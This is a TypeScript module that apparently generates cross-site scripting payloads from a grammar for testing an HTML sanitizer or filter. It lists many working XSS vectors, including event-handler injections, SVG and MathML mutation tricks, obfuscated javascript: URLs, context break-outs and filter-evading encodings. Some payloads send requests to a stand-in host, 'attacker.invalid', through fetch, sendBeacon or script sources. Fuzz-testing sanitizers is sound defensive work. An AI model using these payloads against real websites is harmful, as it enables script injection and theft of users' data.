import { createRandom, type Random } from './random.ts';

/** The host to which payloads send their requests. */
export const FOREIGN_HOST = 'attacker.invalid';

/**
 * Returns texts that try to run a script or to send a request, generated from a grammar: a script, the markup around it, and an obfuscation.
 * Each calls the global `__trap`, opens a dialog or sends a request to `FOREIGN_HOST`.
 */
export function generatePayloads(count: number, seed: number): readonly string[] {
  const random = createRandom(seed);
  return Array.from({ length: count }, (_, index) =>
    obfuscate(embed(scriptFor(index, random), random), random),
  );
}

/** Returns JavaScript whose execution the test would notice. */
function scriptFor(index: number, random: Random): string {
  return random.pick([
    `__trap(${index})`,
    `alert(${index})`,
    `window['__tr'+'ap'](${index})`,
    `top.__trap(${index})`,
    `\\u005f\\u005ftrap(${index})`,
    `\\u{61}lert(${index})`,
    `fetch('//${FOREIGN_HOST}/${index}')`,
    `new Image().src='//${FOREIGN_HOST}/${index}'`,
    `navigator.sendBeacon('//${FOREIGN_HOST}/${index}')`,
    `setTimeout('__trap(${index})')`,
    `eval('__tr'+'ap(${index})')`,
    `__trap\`${index}\``,
    `[].constructor.constructor('__trap(${index})')()`,
    `import('//${FOREIGN_HOST}/${index}')`,
  ]);
}

const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onbeforetoggle',
] as const;

/** Puts a script into markup or another context in which a page might run it. */
function embed(script: string, random: Random): string {
  const event = random.pick(EVENTS);
  const foreign = `//${FOREIGN_HOST}/${encodeURIComponent(script)}`;
  const url = hostileUrl(script, random);
  const element = (): string =>
    random.pick([
      `<script>${script}</script>`,
      `<script src="${foreign}"></script>`,
      `<img src=x ${event}="${script}">`,
      `<img src=x onerror=${script}>`,
      `<svg onload="${script}">`,
      `<svg><script>${script}</script></svg>`,
      `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
      `<svg><a href="${url}"><text y=20>more</text></a></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id=x onload='${script}'/>#x"/></svg>`,
      `<svg><set attributeName=href to="${url}"/></svg>`,
      `<svg><foreignObject><img src=x onerror="${script}"></foreignObject></svg>`,
      `<math href="${url}">more</math>`,
      `<math><maction actiontype="statusline#${url}" href="${url}">more</maction></math>`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
      `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
      `<a href="${url}">more</a>`,
      `<a href=# ping="${foreign}">more</a>`,
      `<${random.pick(['iframe', 'embed'])} src="${url}"></iframe>`,
      `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
      `<object data="${url}"></object>`,
      `<form action="${url}"><input type=submit autofocus ${event}="${script}"></form>`,
      `<button formaction="${url}">more</button>`,
      `<${random.pick(['input', 'textarea', 'select'])} autofocus onfocus="${script}"><option>more`,
      `<details open ontoggle="${script}"><summary>more</summary></details>`,
      `<video src=x onerror="${script}" poster="${foreign}"></video>`,
      `<audio src=x onerror="${script}"></audio>`,
      `<marquee onstart="${script}">more</marquee>`,
      `<body onload="${script}">`,
      `<style>@import '${foreign}'; *{background:url(${foreign})}</style>`,
      `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${script}">more</b>`,
      `<p style="background:url('${foreign}')">more</p>`,
      `<link rel=${random.pick(['stylesheet', 'prefetch'])} href="${foreign}">`,
      `<meta http-equiv=refresh content="0;url=${url}">`,
      `<base href="//${FOREIGN_HOST}/">`,
      `<img src="${foreign}">`,
      `<img srcset="${foreign} 2x">`,
      `<picture><source srcset="${foreign}"><img></picture>`,
      `<input type=image src="${foreign}">`,
      `<template><img src=x onerror="${script}"></template>`,
      `<xss id=x tabindex=1 onfocusin="${script}" autofocus>more</xss>`,
      `<dialog open oncancel="${script}"><img src=x onerror="${script}"></dialog>`,
      `<table background="${foreign}"><tr><td>more</table>`,
    ]);
  /** Closes the attribute, comment or element around it first. */
  const breakOut = () =>
    random.pick(['">', "'>", '-->', '</title>', '</textarea></style></script>', '}</style>']) + element();
  return random.pick<() => string>([
    () => `" autofocus ${event}="${script}`,
    () => `' ${event}='${script}`,
    () => `x\` ${event}=${script} \``,
    // Script strings, templates and URLs.
    () => `';${script};'`,
    () => `";${script};//`,
    () => `\${${script}}`,
    () => `{{constructor.constructor("${script}")()}}`,
    () => `<%= ${script} %>`,
    () => url,
    () => foreign,
    () => `http:${foreign}`,
    ...Array(3).fill(element),
    ...Array(6).fill(breakOut),
  ])();
}

function hostileUrl(script: string, random: Random): string {
  return random.pick([
    `javascript:${script}`,
    `JaVaScRiPt:${script}`,
    `java\tscript:${script}`,
    `java\nscript:${script}`,
    ` \u0001javascript:${script}`,
    `javascript&colon;${script}`,
    `&#106;avascript:${script}`,
    `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${script}`,
    `java&Tab;script:${script}`,
    `javascript://%0a${script}`,
    `data:text/html,<script>parent.${script}</script>`,
    `data:text/html;base64,${btoa(`<script>parent.${script}</script>`)}`,
    `//${FOREIGN_HOST}/`,
    `/\\${FOREIGN_HOST}/`,
    `/\t/${FOREIGN_HOST}/`,
    `\\\\${FOREIGN_HOST}`,
    `https:${FOREIGN_HOST}`,
  ]);
}

/** Changes the notation so that a filter for the plain form would miss it. */
function obfuscate(text: string, random: Random): string {
  return random.pick<() => string>([
    () => text.replace(/<\w+/g, (tag) => tag.replace(/[a-m]/g, (letter) => letter.toUpperCase())),
    ...Array(3).fill(() => text.replace(/<(\w+) /g, `<$1${random.pick(['/', '\n', '\f'])}`)),
    () => text.replace(/=(["'])/g, ' = $1'),
    () => text.replaceAll('<script', '<scr<script>ipt'),
    () => text.replaceAll('<', '\u0000<'),
    () => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    () => text.replaceAll('<', '\\u003c'),
    () => text.replaceAll('<', '\uff1c'),
    () => `<!--${text}`,
    () => `<b>${text}`,
    () => `नाप ${text} \u202e`,
    () => text.replace(/>$/, ''),
    () => encodeURIComponent(text),
    ...Array(3).fill(() => text),
  ])();
}
